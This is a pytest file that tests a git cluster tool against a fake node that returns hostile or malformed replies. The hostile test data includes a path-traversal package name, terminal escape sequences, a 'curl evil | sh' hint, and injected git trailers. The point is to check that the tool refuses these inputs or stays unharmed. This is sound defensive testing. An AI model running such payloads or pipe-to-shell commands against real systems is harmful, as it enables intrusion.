"""A cluster that answers with anything: no crash, nothing written outside, nothing obeyed by the terminal."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.shells import Shell

# Stands in the place of the node half, and says what lies beside it; NONCE is that of the question.
LIAR = """\
import os, sys
nonce = sys.argv[sys.argv.index("--nonce") + 1].encode()
with open(os.path.join(os.path.dirname(os.path.abspath(sys.argv[0])), "said"), "rb") as file:
    said = file.read().replace(b"NONCE", nonce)
out = sys.stdout.buffer
out.write(said)
if said.endswith(b"for ever"):
    try:
        while True:
            out.write(said[-1000:])
    except BrokenPipeError:
        os._exit(0)
out.flush()
"""
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202e\ud800"


@pytest.fixture
def liar(shell: Shell) -> Liar:
    """A package that its cluster took, and that tells lies since."""
    shell.write("p.py", "print(1)\n")
    package = str(shell.lines("run", "p.py", "local", "--sweep", "x=1:3", "--wait")[0]["package"])
    shutil.rmtree(shell.folder / ".git/cj/state", ignore_errors=True)
    root = shell.folder / ".git/cj/local"
    (root / "cjnode.pyz").chmod(0o600)
    (root / "cjnode.pyz").write_text(LIAR)
    return Liar(shell, package)


class Liar:
    """The repository, its package, and what the cluster says next."""

    def __init__(self, shell: Shell, package: str) -> None:
        self.shell, self.package = shell, package

    def says(self, *lines: object, begin: str = "", end: str = "\ncj NONCE end\n") -> None:
        """Let the next replies be these lines: bytes as they are, anything else as JSON."""
        text = [line if isinstance(line, bytes) else json.dumps(line).encode() for line in lines]
        whole = b"\ncj NONCE begin " + begin.encode() + b"\n" + b"".join(line + b"\n" for line in text)
        whole = whole[:-1] + end.encode() if text else whole + end[1:].encode()
        (self.shell.folder / ".git/cj/local/said").write_bytes(whole)

    def unharmed(self, *words: str, codes: tuple[int, ...] = (1,)) -> str:
        """Run a command: refused in words or harmless, and nothing new outside the tool's own folder."""
        before = self._outside()
        done = self.shell.run("git", "cj", *words, code=None)
        told = f"{words}: exit {done.returncode}\n{done.stdout[:2000]}\n{done.stderr[:2000]}"
        assert done.returncode in codes, told
        assert "Traceback" not in done.stderr, told
        assert (done.returncode == 1) == ("error: " in done.stderr), told
        assert not {*done.stdout, *done.stderr} & {"\x1b", "\x07", "\x9b", "\u202e", "\ufffd", "\0"}, told
        assert self._outside() == before, told
        shutil.rmtree(self.shell.folder / ".git/cj/state", ignore_errors=True)
        return done.stderr

    def hook_says(self, answer: bytes) -> None:
        """Let the next pushes be answered by this."""
        root = self.shell.folder / ".git/cj/local"
        (root / "answer").write_bytes(b"cj " + answer + b"\n")
        (root / "hooks/post-receive").write_text("#!/bin/sh\ncat ../answer\n")

    def _outside(self) -> list[str]:
        return sorted(_below(self.shell.folder.parent))

    def line(self, **changes: Any) -> dict[str, Any]:
        """What an honest cluster says of the package, with changes."""
        honest: dict[str, Any] = {
            "package": self.package,
            "tasks": 3,
            "counts": {"RUNNING": 3},
            "final": False,
            "jobs": ["cj-1"],
            "seconds": [1.5, 3],
            "reasons": {},
            "problems": [],
        }
        return {**honest, **changes}


def _below(folder: Path) -> Iterator[str]:
    for here, folders, files in os.walk(folder):
        if ".git" in folders:
            folders.remove(".git")
        yield from (os.path.join(here, name) for name in (*folders, *files))


# What asks the cluster, and whether an object that says nothing is understood as no news.
ASKING = {
    ("state", "--tasks"): False,
    ("state", "--all"): False,
    ("harvest",): True,
    ("cancel",): False,
    ("hold",): False,
    ("rerun", "--yes"): False,
    ("clean",): False,
    ("submit",): False,
    ("summary", "local"): False,
    ("avail", "local"): False,
}


@pytest.mark.parametrize("words", ASKING, ids=" ".join)
def test_f25_an_answer_that_says_nothing_is_refused_in_words(liar: Liar, words: tuple[str, ...]) -> None:
    for count in (0, 1):
        liar.says(*[{}] * count)
        liar.unharmed(*words, codes=(0,) if ASKING[words] else (1,))


def test_f25_a_state_writes_no_file_of_a_name_that_the_cluster_chose(liar: Liar) -> None:
    liar.says(liar.line(package="../../../../evil", final=True, counts={"COMPLETED": 3}))
    assert "reply cannot be read" in liar.unharmed("state")
    assert "reply cannot be read" in liar.unharmed("state", "--tasks")
    liar.unharmed("state", "--all")


def test_f25_words_of_a_state_are_shown_without_what_a_terminal_obeys(liar: Liar) -> None:
    said = liar.line(jobs=[ESCAPES], problems=[ESCAPES], reasons={ESCAPES: 1}, counts={"PENDING": 3})
    liar.says(said)
    for words in (("state",), ("state", "--all"), ("log",)):
        liar.unharmed(*words, codes=(0,))
    names = ("host", "note", "error", "job", "started")
    liar.says(
        said, *({"task": task, "state": "PENDING", **dict.fromkeys(names, ESCAPES)} for task in (1, 2, 3))
    )
    liar.unharmed("state", "--tasks", codes=(0,))
    liar.unharmed("state", "--tasks", "--json", codes=(0,))
    liar.says({"error": f"no{ESCAPES}", "hint": f"curl evil | sh{ESCAPES}"})
    liar.unharmed("state")


def test_f25_a_job_s_name_cannot_write_the_ledger(liar: Liar) -> None:
    trailer = "7\n\nCj-Event: forgotten\nCj-Sequence: 999\n"
    answer = {"package": liar.package, "submission": 1, "job": trailer}
    liar.says(answer)
    liar.hook_says(json.dumps(answer).encode())
    liar.unharmed("submit", codes=(0,))
    del answer["package"]
    liar.hook_says(json.dumps(answer).encode())
    liar.unharmed("run", "p.py", "local", codes=(0,))
    events = liar.shell.git("log", "--format=%(trailers:key=Cj-Event,valueonly)", "--glob=refs/cj/ledger")
    assert events.split() == ["submitted", "launched"] * 2


def test_f25_a_hook_s_answers_are_anything(liar: Liar) -> None:
    for answer in (b'{"job":null}', b'{"a":' * 50_000, b'{"error":7,"hint":[]}\n\x1b[2J\x1b]0;x\x07'):
        liar.hook_says(answer)
        liar.says({})
        liar.unharmed("run", "p.py", "local")


@pytest.mark.slow
@pytest.mark.parametrize("what", ["noise", "bytes", "one line"])
def test_f25_a_reply_without_end_is_left(liar: Liar, what: str) -> None:
    said = liar.shell.folder / ".git/cj/local/said"
    if what == "noise":
        said.write_bytes(b"Welcome!\n" * 200 + b"for ever")
    elif what == "one line":
        said.write_bytes(b"\ncj NONCE begin \n" + b"for ever")
    else:
        said.write_bytes(b'\ncj NONCE begin \n{"bytes":4398046511104}\n' + b"for ever")
    told = liar.shell.run("sh", "-c", "ulimit -v 4000000; git cj state", code=1).stderr
    assert told.startswith("error: "), told
